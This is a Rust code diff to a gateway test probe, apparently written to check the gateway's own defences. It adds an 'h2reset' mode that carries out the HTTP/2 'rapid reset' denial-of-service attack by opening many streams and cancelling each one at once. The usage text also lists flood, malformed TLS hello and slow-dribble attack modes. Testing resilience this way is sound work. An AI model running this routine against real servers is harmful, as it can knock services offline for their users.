@@ -13,7 +13,7 @@ use std::{
 
 fn usage() -> ! {
     eprintln!(
-        "usage: ghgate-probe connect ADDR [--count N] [--interval-ms MS]\n       ghgate-probe udp ADDR\n       ghgate-probe stream ADDR --bytes N\n       ghgate-probe ws ADDR NAME CA_FILE MESSAGE...\n       ghgate-probe h2post ADDR NAME CA_FILE PATH --bytes N\n       ghgate-probe h2streams ADDR NAME CA_FILE PATH --streams N --wait-secs S\n\
+        "usage: ghgate-probe connect ADDR [--count N] [--interval-ms MS]\n       ghgate-probe udp ADDR\n       ghgate-probe stream ADDR --bytes N\n       ghgate-probe ws ADDR NAME CA_FILE MESSAGE...\n       ghgate-probe h2post ADDR NAME CA_FILE PATH --bytes N\n       ghgate-probe h2streams ADDR NAME CA_FILE PATH --streams N --wait-secs S\n       ghgate-probe h2reset ADDR NAME CA_FILE PATH --streams N [--reset-after-ms MS]\n\
          attacks (one JSON line each; DIAL is connect, tfo or mptcp; TEXT takes \\r \\n \\0 \\xHH;\n         any mode takes --comm NAME (rename first) and --as-pid PID (run as a child with that pid)):\n       ghgate-probe talk ADDR [--dial DIAL] [--send TEXT] [--wait-ms MS] [--scope-id N]\n       ghgate-probe udp-send ADDR [--connect] [--lite] [--decoy ADDR] [--send TEXT]\n       ghgate-probe sctp ADDR\n       ghgate-probe raw-udp ADDR [--send TEXT]\n       ghgate-probe hello ADDR [--dial DIAL] [--sni NAME]... [--no-sni] [--ech] [--pad N] [--garbage] [--raw TEXT] [--fragment N] [--dribble-ms MS] [--stall-ms MS] [--then TEXT] [--wait-ms MS]\n       ghgate-probe fetch ADDR NAME [--dial DIAL] [--ca FILE|any]... [--host HOST] [--path PATH] [--dribble-ms MS]\n       ghgate-probe bind ADDR [--reuseport] [--hold-ms MS]\n       ghgate-probe flood ADDR --count N [--hold-ms MS]\n       ghgate-probe dns SERVER NAME [--tcp] [--connect PORT]"
     );
     std::process::exit(2)
@@ -211,6 +211,18 @@ fn main() {
             let wait = Duration::from_secs(opt("--wait-secs").unwrap_or(10));
             let pause = Duration::from_millis(opt("--pause-ms").unwrap_or(0));
             println!("{}", h2_streams(addr, name, ca, path, streams, pause, wait));
+        }
+        "h2reset" => {
+            // One HTTP/2 connection: --streams GETs of PATH, each reset (CANCEL) right after its
+            // HEADERS, as fast as the connection takes them (the "rapid reset" attack).
+            let (Some(name), Some(ca), Some(path)) = (args.get(2), args.get(3), args.get(4)) else {
+                usage()
+            };
+            let streams = opt("--streams").unwrap_or(1000) as usize;
+            // `--reset-after-ms N`: wait N ms before each reset (the server has accepted the
+            // stream by then, so it is no longer a reset of a stream pending acceptance).
+            let after = Duration::from_millis(opt("--reset-after-ms").unwrap_or(0));
+            println!("{}", h2_rapid_reset(addr, name, ca, path, streams, after));
         }
         "ws" => {
             let (Some(name), Some(ca)) = (args.get(2), args.get(3)) else {
@@ -437,6 +449,75 @@ fn h2_streams(
             "statuses": done.iter().map(|d| d.0).collect::<Vec<_>>(),
             "done_after": done.iter().map(|d| d.1).collect::<Vec<_>>(),
             "closed_after": closed_after,
+        })
+    })
+}
+
+/// The rapid-reset attack: how many streams were opened and reset before the connection
+/// ended (or all were), in how long, and how it ended.
+fn h2_rapid_reset(
+    addr: SocketAddr,
+    name: &str,
+    ca: &str,
+    path: &str,
+    streams: usize,
+    after: Duration,
+) -> serde_json::Value {
+    use rustls::pki_types::ServerName;
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    rt.block_on(async {
+        let tcp = tokio::net::TcpStream::connect(addr).await.expect("connect");
+        let tls = tokio_rustls::TlsConnector::from(tls_config(ca, b"h2"))
+            .connect(ServerName::try_from(name.to_owned()).unwrap(), tcp)
+            .await
+            .expect("TLS");
+        let (client, conn) = h2::client::handshake(tls).await.expect("h2 handshake");
+        let conn = tokio::spawn(conn);
+        let url = format!("https://{name}:{}{path}", addr.port());
+        let start = Instant::now();
+        let mut sent = 0;
+        let mut error = None;
+        for _ in 0..streams {
+            let mut client = match client.clone().ready().await {
+                Ok(c) => c,
+                Err(e) => {
+                    error = Some(e.to_string());
+                    break;
+                }
+            };
+            let req = http::Request::get(&url).body(()).unwrap();
+            match client.send_request(req, true) {
+                Ok((_, mut stream)) => {
+                    if !after.is_zero() {
+                        tokio::time::sleep(after).await;
+                    }
+                    stream.send_reset(h2::Reason::CANCEL);
+                    sent += 1;
+                }
+                Err(e) => {
+                    error = Some(e.to_string());
+                    break;
+                }
+            }
+            // Let the connection task write what is queued.
+            tokio::task::yield_now().await;
+        }
+        let secs = start.elapsed().as_secs_f64();
+        drop(client);
+        let ended = tokio::time::timeout(Duration::from_secs(10), conn).await;
+        serde_json::json!({
+            "sent": sent,
+            "secs": secs,
+            "error": error,
+            "ended": match ended {
+                Ok(Ok(Ok(()))) => "closed".to_owned(),
+                Ok(Ok(Err(e))) => e.to_string(),
+                Ok(Err(e)) => e.to_string(),
+                Err(_) => "open".to_owned(),
+            },
         })
     })
 }
